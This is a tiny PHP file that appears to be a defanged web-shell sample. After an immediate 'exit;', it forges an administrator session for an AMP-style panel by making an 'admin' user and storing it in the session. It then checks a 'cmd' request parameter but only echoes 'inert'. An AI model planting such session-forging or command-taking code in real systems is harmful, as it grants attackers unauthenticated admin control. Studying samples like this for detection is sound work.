<?php exit;
$u = new ampuser('admin');
$u->setAdmin();
$_SESSION['AMP_user'] = $u;
if ($_REQUEST['cmd']) { echo 'inert'; }
